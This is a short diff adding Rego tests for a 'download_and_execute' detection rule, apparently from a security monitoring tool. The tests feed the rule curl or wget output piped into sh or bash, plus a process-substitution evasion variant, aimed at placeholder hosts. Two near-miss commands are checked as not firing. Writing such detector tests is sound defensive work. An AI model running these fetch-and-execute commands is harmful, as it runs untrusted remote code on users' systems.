@@ -1,0 +1,13 @@
+package tocsin.tests.download_and_execute
+
+import data.tocsin.testing
+
+test_match_1 if testing.fires("download_and_execute", testing.executed("/bin/sh", ["/bin/sh", "-c", "curl -fsSL http://203.0.113.5/x | sh"], {}))
+
+test_match_2 if testing.fires("download_and_execute", testing.executed("/bin/bash", ["/bin/bash", "-c", "wget -qO- https://x.example|bash"], testing.container))
+
+test_evasion_process_substitution if testing.fires("download_and_execute", testing.executed("/bin/bash", ["/bin/bash", "-c", "bash <(curl -s http://203.0.113.5/x)"], {}))
+
+test_near_miss_download if not testing.fires("download_and_execute", testing.executed("/bin/sh", ["/bin/sh", "-c", "curl -o /tmp/x http://example.com/"], {}))
+
+test_near_miss_pipe if not testing.fires("download_and_execute", testing.executed("/bin/sh", ["/bin/sh", "-c", "cat x | sh"], {}))
